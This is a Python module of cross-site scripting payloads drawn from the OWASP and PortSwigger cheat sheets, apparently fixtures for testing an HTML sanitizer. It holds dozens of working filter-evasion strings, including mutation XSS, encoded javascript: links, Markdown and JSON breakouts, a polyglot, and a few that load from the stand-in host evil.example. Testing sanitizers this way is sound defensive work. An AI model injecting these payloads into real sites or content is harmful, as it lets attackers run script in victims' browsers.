"""Texts that become a script where they are written into a page as they are; each calls `alert`.

After https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html and
https://portswigger.net/web-security/cross-site-scripting/cheat-sheet (read 2026-11-25).
"""

from __future__ import annotations

IMAGE = "<img src=x onerror=alert(1)>"
POLYGLOT = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e" + IMAGE
)

PAYLOADS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script after the end of one": "</script><script>alert(1)</script>",
    "script end in capitals": "</ScRiPt ><ScRiPt>alert(1)</ScRiPt >",
    "script end by a slash": "</script/x><script/x>alert(1)</script/x>",
    "script in a comment": "<!--<script>--><script>alert(1)</script>",
    "script after a comment's other end": "<!----!><script>alert(1)</script>",
    "script that hides in an escape": "<!--<script></script><script>alert(1)</script>-->",
    "script of a file": "<script src=data:text/javascript,alert(1)></script>",
    "script module": "<script type=module>alert(1)</script>",
    "script in svg": "<svg><script>alert&#40;1)</script></svg>",
    "script after a title": "</title><script>alert(1)</script>",
    "script after a style": "</style><script>alert(1)</script>",
    "script after a textarea": "</textarea></noscript></iframe></xmp><script>alert(1)</script>",
    "script after CDATA": "]]><script>alert(1)</script>",
    "script after a head": "</head><body><script>alert(1)</script>",
    "script with a line separator": "</script\u2028><script>\u2028alert(1)\u2029</script>",
    "script with a NUL": '\0"><script\0></script><img src=x one\0rror=1 onerror=alert(1)>',
    "script with a BOM": "\ufeff</script><script>alert(1)</script>",
    "script with a right-to-left mark": "\u202e</script><script>alert(1)</script>\u2066",
    "script in full width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e</script>" + IMAGE,
    "script in UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-" + IMAGE,
    "image": IMAGE,
    "image, unclosed": "<img src=x onerror=alert(1)//",
    "image after a quote": '"><img src=x onerror=alert(1)>',
    "image after an apostrophe": "'><img src=x onerror=alert(1)>",
    "image after a backtick": "`><img src=x onerror=alert(1)>",
    "image after entities": "&quot;&gt;&lt;img src=x&gt;\"'>" + IMAGE,
    "image with slashes": "<img/src='x'/onerror=alert(1)>",
    "attribute after a quote": '" onfocus=alert(1) autofocus tabindex=0 x="',
    "attribute after an apostrophe": "' onfocus=alert(1) autofocus tabindex=0 x='",
    "attribute without quotes": "x onfocus=alert(1) autofocus tabindex=0 ",
    "attribute after a tab": 'x"\tonfocus=alert(1)\tautofocus\ttabindex=0\tx="',
    "attribute after a form feed": 'x"\x0confocus=alert(1)\x0cautofocus\x0ctabindex=0\x0cx="',
    "svg": "<svg onload=alert(1)>",
    "svg animation": '"><svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    "svg link": "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "svg use": "<svg><set attributeName=href to=javascript:alert(1)></set><a><text>x</text></a></svg>",
    "math link": "<math><mtext><a href=javascript:alert(1)>x</a></mtext></math>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by math": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"><img src=x onerror=alert(1)>',
    "mutation by svg style": '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "mutation by foreign content": "<svg><foreignObject><p><style><!--</style>" + IMAGE + "-->",
    "mutation by a template": "<template><script>alert(1)</script></template></template>" + IMAGE,
    "mutation by a select": "<select><option></select>" + IMAGE + "</option>",
    "mutation by plaintext": "<xmp></xmp>" + IMAGE + "<plaintext>",
    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "frame by URL": "<iframe src=javascript:parent.alert(1)></iframe>",
    "object": "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>" + IMAGE,
    "base": '<base href="https://evil.example/"><script src=x.js></script>',
    "refresh": "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>" + IMAGE,
    "details": "<details open ontoggle=alert(1)>x</details>",
    "video": "<video><source onerror=alert(1)></video>",
    "form": "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "style": "<style>@import 'https://evil.example/a';</style><link rel=stylesheet href=//evil.example/b>",
    "style value": "x;background:url(https://evil.example/c.png);}</style>" + IMAGE,
    "style animation": "<style>@keyframes x{}</style><p style=animation:x onanimationstart=alert(1)>x</p>",
    "link": "javascript:alert(1)",
    "link in capitals": " \x01JaVaScRiPt:alert(1)",
    "link with a tab": "java\tscript:alert(1)",
    "link with a line end": "java\nscr\ript:alert(1)",
    "link with an entity": "java&Tab;script&colon;alert(1)",
    "link with percent signs": "javascript:%61lert(1)",
    "link that looks like a site": "javascript://www.example.org/%0Aalert(1)",
    "link of data": "data:text/html,<script>alert(1)</script>",
    "link of packed data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "link of svg": 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "link of VBScript": "vbscript:alert(1)",
    "Markdown link": "[x](javascript:alert(1)) ![x](x'onerror='alert(1)) <javascript:alert(1)>",
    "Markdown link by title": '[x](/y "\\" onfocus=alert(1) autofocus=\\"")',
    "Markdown link by reference": "[x][y]\n\n[y]: javascript:alert(1) 'z'",
    "Markdown code": '```"><img src=x onerror=alert(1)>\nx\n```\n`<script>alert(1)</script>`',
    "JSON": '"}],"x":[{"</script><script>alert(1)</script>":"',
    "JSON by backslash": '\\"});alert(1);</script><script>alert(1)//',
    "JSON by an escape": "\\u003c/script\\u003e\\u003cscript\\u003ealert(1)\\u003c/script\\u003e</script>"
    + IMAGE,
    "template": "{{7*191}}${7*191}{%print(7*191)%}#{7*191}<%=7*191%>{{constructor.constructor('alert(1)')()}}"
    + IMAGE,
    "end of our block": "<!-- seo-kit:end --><script>alert(1)</script>",
    "polyglot": POLYGLOT,
}
